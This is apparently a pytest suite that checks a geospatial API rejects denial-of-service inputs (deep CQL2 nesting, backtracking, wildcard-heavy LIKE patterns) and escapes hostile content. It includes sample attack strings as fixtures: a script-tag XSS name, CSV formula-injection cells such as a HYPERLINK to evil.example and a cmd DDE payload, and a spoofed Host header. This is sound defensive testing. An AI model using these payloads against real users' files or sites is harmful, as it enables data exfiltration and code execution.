"""Hardening (issue 11): inputs that used to crash, hang or 500 the service now get a 4xx.

Each test sends what the security review sent and checks what a client would see: a problem
document that says what to change, and a server that still answers the next request.
"""
from __future__ import annotations

import json
import random

import pytest

from planmap import config
from planmap.api.cql import like_matcher

ITEMS = "/collections/barrier_zones/items"


def _problem(r, status: int) -> str:
    assert r.status_code == status, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
    return r.json()["detail"]


def _still_answers(client) -> None:
    r = client.get(ITEMS, params={"filter": "level = 1"})
    assert r.status_code == 200 and r.json()["numberMatched"] >= 1


@pytest.mark.parametrize("flt, says", [
    ("(" * 2000 + "level = 1" + ")" * 2000, "brackets nest deeper than"),   # was a segfault
    ("level = " + "-" * 5000 + "1", "operators"),                          # was a segfault
    ("NOT " * 3000 + "level = 1", "operators"),
    ("level" + " = 1" * 3000, "operators"),
    ("CASEI(" * 40 + "name" + ")" * 40 + " = 'x'", "brackets nest deeper than"),
    ("level = 1 OR " * 2000 + "level = 2", "the limit is"),
])
def test_deep_or_long_cql2_text_is_400_and_server_survives(client, flt, says):
    assert says in _problem(client.get(ITEMS, params={"filter": flt}), 400)
    _still_answers(client)


def test_deep_cql2_json_is_400(client):
    deep = '{"op":"not","args":[' * 200 + "true" + "]}" * 200
    arrays = "[" * 3000 + "]" * 3000
    for flt in (deep, arrays):
        _problem(client.get(ITEMS, params={"filter": flt, "filter-lang": "cql2-json"}), 400)
    _still_answers(client)


def test_nesting_within_the_limit_still_works(client, store):
    flt = "(" * 12 + "level = 1" + ")" * 12
    r = client.get(ITEMS, params={"filter": flt})
    gdf = store.get("barrier_zones").gdf
    assert r.status_code == 200 and r.json()["numberMatched"] == int((gdf["level"] == 1).sum())
    r = client.get(ITEMS, params={"filter": "NOT NOT level = 1"})
    assert r.status_code == 200 and r.json()["numberMatched"] == int((gdf["level"] == 1).sum())


def test_parser_backtracking_is_cut_off_and_does_not_stall_the_server(client):
    """Text that fails deep inside brackets makes the parser's work double per level (this one
    would take minutes); the parse runs in a child process that is stopped at the time limit."""
    flt = "(" * 16 + "level = 1 AND " * 140 + "level = " + ")" * 16
    detail = _problem(client.get(ITEMS, params={"filter": flt}), 400)
    assert "too complex to parse" in detail
    _still_answers(client)


def test_a_parser_crash_is_contained(client, monkeypatch):
    """Even with the nesting limit lifted, the parser's stack overflow kills only its child."""
    monkeypatch.setattr(config, "FILTER_MAX_DEPTH", 100_000)
    monkeypatch.setattr(config, "FILTER_MAX_OPERATORS", 100_000)
    monkeypatch.setattr(config, "FILTER_PARSE_TIMEOUT_S", 30.0)
    flt = "level = " + "-" * 5000 + "1"  # segfaulted the whole service
    _problem(client.get(ITEMS, params={"filter": flt}), 400)
    monkeypatch.undo()
    _still_answers(client)


def test_overlong_filter_is_400(client, monkeypatch):
    monkeypatch.setattr(config, "FILTER_MAX_CHARS", 100)
    detail = _problem(client.get(ITEMS, params={"filter": "level = 1 AND " * 20 + "level = 1"}), 400)
    assert "the limit is 100" in detail


@pytest.mark.parametrize("flt, says", [
    ('{"op":"and","args":[]}', "'and' takes at least 2 arguments"),
    ('{"op":"or","args":[true]}', "'or' takes at least 2 arguments"),
    ('{"op":"not","args":[]}', "'not' takes 1 argument"),
    ('{"op":"between","args":[{"property":"level"},1]}', "'between' takes 3 arguments"),
    ('{"op":"=","args":[{"property":"level"}]}', "'=' takes 2 arguments"),
    ('{"op":"in","args":[{"property":"level"},1]}', "IN takes a list"),
    ('{"op":"s_intersects","args":[{"property":"geometry"},{"bbox":[117,39,118]}]}', "BBOX takes 4 numbers"),
    ('{"op":"s_intersects","args":[{"property":"geometry"},{"bbox":[117,39,118,"x"]}]}', "BBOX takes 4 numbers"),
])
def test_malformed_cql2_json_is_400_not_500(client, flt, says):
    detail = _problem(client.get(ITEMS, params={"filter": flt, "filter-lang": "cql2-json"}), 400)
    assert says in detail


def test_huge_bbox_in_projected_crs_is_400(client):
    huge = "-1e308,-1e308,1e308,1e308"
    for crs in ("EPSG:4548", "EPSG:3857"):
        detail = _problem(client.get("/collections/districts/items",
                                     params={"bbox": huge, "bbox-crs": crs}), 400)
        assert f"not a valid area in {crs}" in detail
    detail = _problem(client.get("/collections/districts/items", params={
        "filter": "S_INTERSECTS(geometry, BBOX(-1e308,-1e308,1e308,1e308))",
        "filter-crs": "EPSG:4548"}), 400)
    assert "not a valid EPSG:4548 position" in detail
    _still_answers(client)


def test_like_with_many_wildcards_is_fast_and_right(client, store):
    """Six % used to take ~25 minutes of CPU; the answer must equal a plain substring search."""
    gdf = store.get("projects").gdf
    flt = "note LIKE '%" + "%".join("一") + "%%%%%%'"
    expected = int(gdf["note"].dropna().str.contains("一").sum())
    r = client.get("/collections/projects/items", params={"filter": flt, "limit": 1})
    assert r.status_code == 200 and r.json()["numberMatched"] == expected
    r = client.get("/collections/projects/items", params={"filter": "note LIKE '%a%b%c%d%e%f%g%'"})
    assert r.status_code == 200


def _like_reference(pattern: str, value: str) -> bool:
    """Textbook dynamic programme over (pattern, value) positions: the meaning of LIKE."""
    toks: list[str | None] = []  # None = %, "\0any" = _, else a literal character
    i = 0
    while i < len(pattern):
        if pattern[i] == "\\" and i + 1 < len(pattern):
            toks.append(pattern[i + 1]); i += 2; continue
        toks.append(None if pattern[i] == "%" else "\0any" if pattern[i] == "_" else pattern[i])
        i += 1
    ok = [[False] * (len(value) + 1) for _ in range(len(toks) + 1)]
    ok[0][0] = True
    for a, t in enumerate(toks, 1):
        for b in range(len(value) + 1):
            if t is None:
                ok[a][b] = ok[a - 1][b] or (b > 0 and ok[a][b - 1])
            elif b > 0 and (t == "\0any" or t == value[b - 1]):
                ok[a][b] = ok[a - 1][b - 1]
    return ok[len(toks)][len(value)]


def test_like_matcher_agrees_with_the_definition():
    rng = random.Random(11)
    for _ in range(3000):
        p = "".join(rng.choice("ab%_\\") for _ in range(rng.randint(0, 7)))
        v = "".join(rng.choice("ab_%") for _ in range(rng.randint(0, 9)))
        assert like_matcher(p)(v) == _like_reference(p, v), (p, v)
    assert like_matcher("%湿地%")("七里海湿地") and not like_matcher("_湿地")("七里海湿地")
    assert like_matcher("a\\%b")("a%b") and not like_matcher("a\\%b")("axb")


def test_time_budget_stops_the_work_with_503(client, monkeypatch):
    monkeypatch.setattr(config, "REQUEST_BUDGET_S", -1.0)  # already spent when the request starts
    r = client.get("/collections/projects/items", params={"filter": "note LIKE '%a%'"})
    detail = _problem(r, 503)
    assert "was stopped" in detail and r.headers["retry-after"]
    monkeypatch.undo()
    _still_answers(client)


# --- Safe in every context --------------------------------------------------------------------

HOSTILE_NAME = "<!--<script>alert(1)</script>&\u2028\u2029 项目"


def _store_with_project_name(store, name: str):
    from planmap.store import Layer, LayerStore
    layers = dict(store.layers)
    gdf = store.get("projects").gdf.copy()
    gdf.iloc[0, gdf.columns.get_loc("name")] = name
    layers["projects"] = Layer(store.get("projects").spec, gdf)
    return LayerStore(layers, etag="hostile")


def test_map_page_json_has_no_markup_and_keeps_the_name(store):
    """A project name with an HTML comment opener and a script tag used to stop /map initialising."""
    from planmap.web.mapview import MapOptions, render_html
    page = render_html(_store_with_project_name(store, HOSTILE_NAME), MapOptions(layers=("projects",)))
    start = page.index("planmapQueue || []).push([")
    call = page[start: page.index("</script>", start)]
    config_text = call[call.index(",") + 1: call.rindex("]")].strip()
    assert not any(ch in config_text for ch in "<>&\u2028\u2029")
    assert HOSTILE_NAME in json.dumps(json.loads(config_text), ensure_ascii=False)


def test_script_json_escapes_markup_losslessly():
    from planmap.web.safejson import script_json
    assert script_json({"n": HOSTILE_NAME}) == (
        '{"n":"\\u003c!--\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\\u0026\\u2028\\u2029 项目"}')
    assert json.loads(script_json({"n": HOSTILE_NAME}))["n"] == HOSTILE_NAME


def test_csv_export_neutralises_formulas_but_not_numbers(store):
    import csv
    import io

    from planmap.export.files import export_layer
    from planmap.geo.crs import resolve
    from planmap.store import Layer
    layer = store.get("projects")
    gdf = layer.gdf.copy()
    cells = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-1+1",
             "@SUM(1,2)", "\tx", "\rx", "普通项目"]
    gdf.iloc[:len(cells), gdf.columns.get_loc("name")] = cells
    gdf.iloc[0, gdf.columns.get_loc("investment_yi")] = -1.5
    data = export_layer(Layer(layer.spec, gdf), "csv", resolve(None))
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [r["name"] for r in rows[:len(cells)]] == ["'" + c for c in cells[:-1]] + ["普通项目"]
    assert rows[0]["investment_yi"] == "-1.5"  # a real number stays a number


# --- Bounded caches, absolute URLs not from the Host header -----------------------------------

def test_host_header_never_reaches_links_or_the_map_page(client):
    evil = {"Host": "evil.example", "X-Forwarded-Host": "evil.example"}
    doc = client.get("/", headers=evil).json()
    assert all(link["href"].startswith("http://testserver/") for link in doc["links"])
    page = client.get("/map", params={"layers": "districts"}, headers=evil).text
    assert "evil.example" not in page


def test_public_url_and_allow_listed_forwarded_host(client, monkeypatch):
    monkeypatch.setattr(config, "ALLOWED_HOSTS", ("gis.example.org",))
    doc = client.get("/", headers={"X-Forwarded-Host": "gis.example.org",
                                   "X-Forwarded-Proto": "https"}).json()
    assert doc["links"][0]["href"].startswith("https://gis.example.org/")
    doc = client.get("/", headers={"X-Forwarded-Host": "other.example"}).json()
    assert doc["links"][0]["href"].startswith("http://testserver/")
    monkeypatch.setattr(config, "PUBLIC_URL", "https://planmap.example.gov.cn/planmap")
    page = client.get("/map", params={"layers": "wetlands"}).text
    assert "https://planmap.example.gov.cn/planmap/static/" in page
    doc = client.get("/collections/wetlands/items", params={"limit": 1}).json()
    assert all(link["href"].startswith("https://planmap.example.gov.cn/planmap/") for link in doc["links"])


def test_map_cache_is_keyed_on_the_normalised_request_and_bounded_by_bytes(client, monkeypatch):
    from planmap.web.routes import page_cache
    page_cache.clear()
    first = client.get("/map", params={"layers": "wetlands,districts"}).text
    for spelling in ("districts,wetlands", " wetlands , districts,wetlands", "districts,,wetlands"):
        assert client.get("/map", params={"layers": spelling}).text == first
    assert len(page_cache) == 1
    one_page = page_cache.bytes
    monkeypatch.setattr(config, "MAP_CACHE_BYTES", int(one_page * 1.5))  # the five pages need more
    for layers in ("wetlands", "districts", "eco_corridors", "wetlands,eco_corridors", "parks"):
        assert client.get("/map", params={"layers": layers}).status_code == 200
        assert page_cache.bytes <= config.MAP_CACHE_BYTES
    assert 1 <= len(page_cache) < 5
    page_cache.clear()


# --- The process: SIGTERM stops it, even with a request hanging -------------------------------

def test_sigterm_stops_the_server_despite_a_stalled_request(tmp_path):
    import signal
    import socket
    import subprocess
    import sys
    import time
    import urllib.request

    from planmap.config import DEFAULT_GPKG, REPO_DIR
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {**__import__("os").environ, "PYTHONPATH": str(REPO_DIR), "PLANMAP_SHUTDOWN_GRACE_S": "1"}
    proc = subprocess.Popen([sys.executable, "-m", "planmap.cli", "serve", "--data", str(DEFAULT_GPKG),
                             "--port", str(port), "--log-level", "warning"],
                            cwd=REPO_DIR, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        for _ in range(600):
            try:
                urllib.request.urlopen(f"http://127.0.0.1:{port}/conformance", timeout=5).read()
                break
            except OSError:
                time.sleep(0.1)
        else:
            pytest.fail("planmap serve did not start")
        # A client that announces a body and never sends it keeps a request running forever.
        stalled = socket.create_connection(("127.0.0.1", port))
        stalled.sendall(b"POST /query/intersects HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                        b"Content-Length: 100000\r\n\r\n{\"type\":")
        time.sleep(0.5)
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(timeout=30)  # a liveness bound, not a speed figure: it used to never exit
        except subprocess.TimeoutExpired:
            proc.kill()
            pytest.fail("planmap serve was still running 30 s after SIGTERM")
        stalled.close()
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.wait()
        proc.stderr.close()
